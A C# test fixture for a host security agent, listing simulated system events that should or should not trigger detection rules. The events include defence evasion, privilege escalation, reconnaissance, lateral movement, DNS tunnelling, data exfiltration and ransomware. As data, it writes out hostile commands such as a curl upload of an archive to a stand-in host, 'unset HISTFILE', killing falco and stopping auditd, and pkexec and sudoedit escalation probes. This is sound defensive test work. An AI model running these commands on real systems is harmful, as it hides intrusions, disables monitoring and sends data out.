// SPDX-License-Identifier: Apache-2.0
using NodeAgent.Events.Identity;
using NodeAgent.Events.Syscalls;
using NodeAgent.Events.Wire;
using NodeAgent.Rules.Tests.Fixtures;
using static NodeAgent.Rules.Tests.Library.RuleExample;

namespace NodeAgent.Rules.Tests.Library;

/// <summary>Examples of what hides, rises, looks around, spreads, carries away and destroys.</summary>
internal static class BehaviourExamples
{
    private const string Foreign = "93.184.216.34";
    private const uint NewUserNamespace = 0x10000000;

    public static IReadOnlyList<RuleExample> All { get; } =
    [
        Fires("NA-1201", "memory of another process", b => b.Privilege(PrivilegeOperation.ProcessVmWrite, 17, target: 17)),
        Fires("NA-1201", "memory through procfs", b => b.Open("/proc/17/mem", 2)),
        Quiet("NA-1201", "memory read", b => b.Privilege(PrivilegeOperation.ProcessVmRead, 17, target: 17)),
        Quiet("NA-1201", "memory through procfs read", b => b.Open("/proc/17/mem")),
        Fires("NA-1202", "brackets", b => b.Exec("/tmp/x", ["[kworker/0:1]"], comm: "x")),
        Fires("NA-1202", "name of a thread", b => b.Exec("/tmp/kswapd0", comm: "kswapd0")),
        Quiet("NA-1202", "thread of the kernel that was there", b => b.Exec(string.Empty, [], comm: "kworker/0:1", kind: EventKind.Task)),
        Quiet("NA-1202", "test command", b => b.Exec("/usr/bin/[", ["[", "-e", "x", "]"], comm: "[")),
        Fires("NA-1203", "blank at the end", b => b.Exec("/usr/sbin/sshd ", comm: "sshd ")),
        Fires("NA-1203", "three dots", b => b.Exec("/tmp/.../x", comm: "x")),
        Quiet("NA-1203", "blank within", b => b.Exec("/opt/My App/x", comm: "x")),
        Fires("NA-1204", "hidden folder", b => b.Exec("/tmp/.ICE-unix/x", comm: "x")),
        Quiet("NA-1204", "hidden folder at home", b => b.Exec("/root/.cargo/bin/x", comm: "x")),
        Fires("NA-1205", "time of another file", b => b.Exec("/bin/touch", ["touch", "-r", "/bin/ls", "/usr/bin/x"], comm: "touch")),
        Quiet("NA-1205", "time of a build's file", b => b.Exec("/bin/touch", ["touch", "-r", "a", "debian/tmp/usr/b"], comm: "touch")),
        Quiet("NA-1205", "time of now", b => b.Exec("/bin/touch", ["touch", "/var/log/x"], comm: "touch")),
        Fires("NA-1206", "history off", b => b.Exec("/bin/bash", ["bash", "-c", "unset HISTFILE; id"], comm: "bash")),
        Quiet("NA-1206", "history as it is", b => b.Exec("/bin/bash", ["bash", "-c", "id"], comm: "bash")),
        Fires("NA-1207", "agent killed", b => b.Signal(9, "node-agent")),
        Quiet("NA-1207", "agent told to reload", b => b.Signal(1, "node-agent")),
        Quiet("NA-1207", "something else killed", b => b.Signal(9, "sleep")),
        Quiet("NA-1207", "service manager", b => { b.Comm = "systemd"; b.Signal(15, "auditd"); }),
        Quiet("NA-1207", "no memory left", b => b.Signal(9, "node-agent", SignalOperation.OomKill)),
        Fires("NA-1208", "audit stopped", b => b.Exec("/bin/systemctl", ["systemctl", "stop", "auditd.service"], comm: "systemctl")),
        Fires("NA-1208", "falco killed", b => b.Exec("/usr/bin/pkill", ["pkill", "-9", "falco"], comm: "pkill")),
        Quiet("NA-1208", "web server stopped", b => b.Exec("/bin/systemctl", ["systemctl", "stop", "nginx"], comm: "systemctl")),
        Fires("NA-1209", "program deletes itself", b => b.Change(FileOperation.Unlink, "/bin/sh")),
        Quiet("NA-1209", "program deletes another", b => b.Change(FileOperation.Unlink, "/bin/bash")),
        Fires("NA-1210", "writable and executable", b => b.Memory(PrivilegeOperation.MmapExec, 7)),
        Fires("NA-1210", "heap made executable", b => b.Memory(PrivilegeOperation.MprotectExec, 5)),
        Quiet("NA-1210", "library", b => b.Memory(PrivilegeOperation.MmapExec, 5, "/lib/libc.so.6")),
        Fires("NA-1211", "library without a file", b => b.Memory(PrivilegeOperation.MmapExec, 5 | (ulong)OpenRecordFlags.Memfd << 32, "memfd:x")),
        Quiet("NA-1211", "library of the volume", b => b.Memory(PrivilegeOperation.MmapExec, 5, "/data/x.so")),
        Fires("NA-1301", "root out of nothing", b => b.Credentials(1000, 0, uint.MaxValue)),
        Fires("NA-1301", "root in a read", b => b.Credentials(1000, 0, Number("read"))),
        Quiet("NA-1301", "root by sudo", b => b.Credentials(1000, 0, Number("execve"))),
        Quiet("NA-1301", "another user", b => b.Credentials(0, 1000, uint.MaxValue)),
        Fires("NA-1302", "bash with the SUID bit", b => Risen(b).Exec("/tmp/b", ["b", "-p"], comm: "b")),
        Quiet("NA-1302", "sudo", b => Risen(b).Exec("/usr/bin/sudo", comm: "sudo")),
        Quiet("NA-1302", "child of what has risen", b => { Risen(b).Init.EffectiveUid = 0; b.Exec("/bin/id", comm: "id"); }),
        Fires("NA-1303", "capability out of nothing", b => Limited(b).Capability("SYS_ADMIN")),
        Quiet("NA-1303", "capability that was given", b => Limited(b).Capability("CHOWN")),
        Quiet("NA-1303", "container that nobody knows", b => b.Capability("SYS_ADMIN")),
        Fires("NA-1304", "user namespace", b => b.Namespaces(NamespaceOperation.Unshare, NewUserNamespace | 0x20000)),
        Fires("NA-1304", "child in a user namespace", b => b.Namespaces(NamespaceOperation.Clone, NewUserNamespace)),
        Quiet("NA-1304", "mount namespace", b => b.Namespaces(NamespaceOperation.Unshare, 0x20000)),
        Quiet("NA-1304", "sandbox that was learned", b => { b.Learned().Executes("/bin/sh"); b.Namespaces(NamespaceOperation.Clone, NewUserNamespace); }),
        Fires("NA-1305", "su", b => Learned(b).Exec("/bin/su", ["su", "-"], comm: "su")),
        Quiet("NA-1305", "su that was learned", b => { b.Learned().Executes("/bin/su"); b.Exec("/bin/su", comm: "su"); }),
        Fires("NA-1306", "pkexec without arguments", b => b.Exec("/usr/bin/pkexec", [], comm: "pkexec")),
        Fires("NA-1306", "sudoedit and a backslash", b => b.Exec("/usr/bin/sudo", ["sudoedit", "-s", "AAAA\\"], comm: "sudoedit")),
        Quiet("NA-1306", "pkexec with arguments", b => b.Exec("/usr/bin/pkexec", ["pkexec", "id"], comm: "pkexec")),
        Quiet("NA-1306", "sudo with a command", b => b.Exec("/usr/bin/sudo", ["sudo", "-u", "www-data", "id"], comm: "sudo")),
        Fires("NA-1401", "seven commands", b => Commands(b, "id", "whoami", "uname", "ps", "netstat", "mount", "df")),
        Quiet("NA-1401", "one command seven times", b => Commands(b, "id", "id", "id", "id", "id", "id", "id")),
        Quiet("NA-1401", "seven commands that were learned", b => { b.Learned().Executes("/bin/id").Executes("/bin/ps"); Commands(b, "id", "whoami", "uname", "ps", "netstat", "mount", "df"); }),
        Fires("NA-1402", "twenty ports", b => Times(20, i => b.Tcp("10.1.2.3", (ushort)(1000 + i), error: 111))),
        Quiet("NA-1402", "one port twenty times", b => Times(20, _ => b.Tcp("10.1.2.3", 1000))),
        Quiet("NA-1402", "twenty ports in an hour", b => Times(20, i => { b.NowNs += 180_000_000_000; b.Tcp("10.1.2.3", (ushort)(1000 + i)); })),
        Fires("NA-1403", "twenty addresses", b => Times(20, i => b.Tcp($"10.1.2.{i + 1}", 6379, error: 113))),
        Quiet("NA-1403", "twenty addresses that answer", b => Times(20, i => b.Tcp($"10.1.2.{i + 1}", 9100))),
        Fires("NA-1404", "nmap", b => b.Exec("/usr/bin/nmap", comm: "nmap")),
        Quiet("NA-1404", "name that begins like it", b => b.Exec("/usr/bin/nmapped", comm: "nmapped")),
        Fires("NA-1501", "ssh", b => Learned(b).Exec("/usr/bin/ssh", ["ssh", "root@10.0.0.7"], comm: "ssh")),
        Quiet("NA-1501", "ssh that was learned", b => { b.Learned().Executes("/usr/bin/ssh"); b.Exec("/usr/bin/ssh", comm: "ssh"); }),
        Fires("NA-1502", "five machines", b => Times(5, i => b.Tcp($"10.1.2.{i + 1}", 22, comm: "ssh", localPort: 40000))),
        Quiet("NA-1502", "one machine five times", b => Times(5, _ => b.Tcp("10.1.2.3", 22, comm: "ssh", localPort: 40000))),
        Fires("NA-1503", "kubectl exec", b => b.Exec("/usr/bin/kubectl", ["kubectl", "exec", "-it", "db-0", "--", "sh"], comm: "kubectl")),
        Quiet("NA-1503", "kubectl get", b => b.Exec("/usr/bin/kubectl", ["kubectl", "get", "pods"], comm: "kubectl")),
        Fires("NA-1504", "kubelet", b => Learned(b).Tcp("10.0.0.1", 10250, comm: "curl")),
        Quiet("NA-1504", "database", b => Learned(b).Tcp("10.0.0.1", 5432, comm: "curl")),
        Fires("NA-1601", "fifteen long names", b => Times(15, i => b.Dns(DnsMessages.Query($"{i:d2}{new string('a', 50)}.t.example.com")))),
        Quiet("NA-1601", "one long name", b => Times(15, _ => b.Dns(DnsMessages.Query(new string('a', 50) + ".t.example.com")))),
        Quiet("NA-1601", "fifteen short names", b => Times(15, i => b.Dns(DnsMessages.Query($"n{i}.example.com")))),
        Fires("NA-1602", "ten made-up domains", b => Times(10, i => b.Dns(DnsMessages.Query($"xjq7h2kfw{i}pzq.com")))),
        Quiet("NA-1602", "ten domains of words", b => Times(10, i => b.Dns(DnsMessages.Query($"weatherforecast{(char)('a' + i)}.com")))),
        Fires("NA-1603", "catcher of requests", b => b.Dns(DnsMessages.Query("x7y.oast.fun"))),
        Quiet("NA-1603", "name that ends like it", b => b.Dns(DnsMessages.Query("toast.fun"))),
        Fires("NA-1701", "200 MB", b => Learned(b).Close(Foreign, 443, 200_000_000)),
        Quiet("NA-1701", "200 MB that came", b => Learned(b).Close(Foreign, 443, 1000, 200_000_000)),
        Quiet("NA-1701", "200 MB to a peer that was learned", b => { b.Learned().Talks(Foreign, 443, Events.Net.TransportProtocol.Tcp); b.Close(Foreign, 443, 200_000_000); }),
        Fires("NA-1702", "curl uploads", b => b.Exec("/usr/bin/curl", ["curl", "-T", "/tmp/x.tgz", "https://transfer.example"], comm: "curl")),
        Quiet("NA-1702", "curl posts a word", b => b.Exec("/usr/bin/curl", ["curl", "-d", "x=1", "https://api.example"], comm: "curl")),
        Fires("NA-1801", "userfaultfd", b => b.Privilege(PrivilegeOperation.Userfaultfd)),
        Quiet("NA-1801", "userfaultfd that was learned", b => { b.Learned().Syscalls.Add("userfaultfd"); b.Privilege(PrivilegeOperation.Userfaultfd); }),
        Fires("NA-1901", "twenty files", b => Times(20, i => b.Change(FileOperation.Rename, $"/data/{i}.pdf.locked", $"/data/{i}.pdf"))),
        Quiet("NA-1901", "twenty files in an hour", b => Times(20, i => { b.NowNs += 180_000_000_000; b.Change(FileOperation.Rename, $"/data/{i}.pdf.locked", $"/data/{i}.pdf"); })),
        Quiet("NA-1901", "logs rotated", b => Times(20, i => b.Change(FileOperation.Rename, $"/var/log/{i}.log.1", $"/var/log/{i}.log"))),
        Fires("NA-1902", "note", b => b.Open("/data/HOW_TO_DECRYPT.txt", 0x241)),
        Quiet("NA-1902", "readme", b => b.Open("/data/README.txt", 0x241)),
        Fires("NA-1903", "ten times openssl", b => Times(10, i => b.Exec("/usr/bin/openssl", ["openssl", "enc", "-aes-256-cbc", "-in", $"{i}"], comm: "openssl"))),
        Quiet("NA-1903", "openssl once", b => b.Exec("/usr/bin/openssl", ["openssl", "enc", "-d"], comm: "openssl")),
    ];

    private static uint Number(string syscall) => (uint)SyscallNames.NumberOf(SyscallNames.Native, syscall);

    private static Bench Risen(Bench bench)
    {
        bench.Uid = 1000;
        bench.Init.EffectiveUid = 1000;
        return bench;
    }

    private static Bench Limited(Bench bench)
    {
        bench.Container.Identity = bench.Container.Identity with { Configuration = new ContainerConfiguration { Capabilities = ["CAP_CHOWN"] } };
        return bench;
    }

    private static void Commands(Bench bench, params string[] names)
    {
        foreach (string name in names)
        {
            bench.Exec("/bin/" + name, comm: name);
        }
    }

    private static void Times(int count, Action<int> play)
    {
        for (int i = 0; i < count; i++)
        {
            play(i);
        }
    }
}
